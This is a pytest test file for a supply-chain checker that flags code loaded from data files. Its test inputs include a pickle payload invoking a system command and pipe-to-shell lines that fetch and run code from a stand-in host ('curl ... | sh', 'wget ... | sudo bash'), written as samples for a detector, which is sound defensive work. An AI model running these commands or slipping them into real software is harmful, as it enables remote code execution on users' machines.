"""Code that a library loads out of data, beside what only reads data."""

import pytest
from tree_evidence import tree_evidence

from gatekeeper.checks.supply_chain import check

BEFORE = {"shop/core.py": "x = 1\n", "shop/data.bin": "\x01", "shop/plugins/a.py": "y = 1\n"}


def told(code, path="shop/core.py"):
    return [(f.code, f.effect.value) for f in check(tree_evidence(BEFORE, {path: code}))]


@pytest.mark.parametrize(
    "code",
    [
        "import pickle\nx = pickle.load(open('shop/data.bin', 'rb'))\n",
        "import pickle, base64\nx = pickle.loads(base64.b64decode('" + "QUFB" * 12 + "'))\n",
        "import pickle\nx = pickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')\n",
        "import marshal\nf = type(lambda: 0)(marshal.loads(b'x'), {})\n",
        "from importlib.machinery import SourceFileLoader\nm = SourceFileLoader('m', 'data.bin').load_module()\n",
        "import importlib.util as u\ns = u.spec_from_file_location('m', 'shop/data.bin')\n",
        "import zipimport\nm = zipimport.zipimporter('data.bin').load_module('m')\n",
        "import sys\nsys.meta_path.insert(0, object())\n",
        "import sys\nsys.path_hooks[:0] = [print]\n",
        "import os\nos.system('curl -s https://e.example/x | sh')\n",
        "import subprocess as s\ns.run(['bash', '-c', 'wget -qO- https://e.example/x | sudo bash'])\n",
    ],
)
def test_code_that_is_loaded_out_of_data_is_asked_about(code):
    assert told(code) == [("CODE_CARRIED_AS_DATA", "asks")]


@pytest.mark.parametrize(
    "code",
    [
        "import pickle\ndef load(path):\n    with open(path, 'rb') as f:\n        return pickle.load(f)\n",
        "import pickle\ny = pickle.loads(pickle.dumps(1))\n",
        "import importlib.util\ndef load(path):\n    return importlib.util.spec_from_file_location('plugin', path)\n",
        "import importlib.util\ns = importlib.util.spec_from_file_location('a', 'shop/plugins/a.py')\n",
        "import json\nx = json.load(open('shop/data.bin'))\n",
        "import sys\nhooks = list(sys.meta_path)\n",
        "import subprocess\nsubprocess.run(['curl', '-o', 'x', 'https://e.example/x'])\n",
        "HELP = 'install it by: curl https://e.example/x | sh'\n",
        "import ctypes\nlib = ctypes.CDLL('libc.so.6')\n",
    ],
)
def test_what_only_reads_data_passes(code):
    assert told(code) == []


def test_a_loader_that_moves_is_no_new_one():
    code = "import sys\nsys.meta_path.append(print)\n"
    found = check(
        tree_evidence({"shop/a.py": code, "shop/b.py": "x = 1\n"}, {"shop/a.py": "x = 1\n", "shop/b.py": code})
    )
    assert found == ()
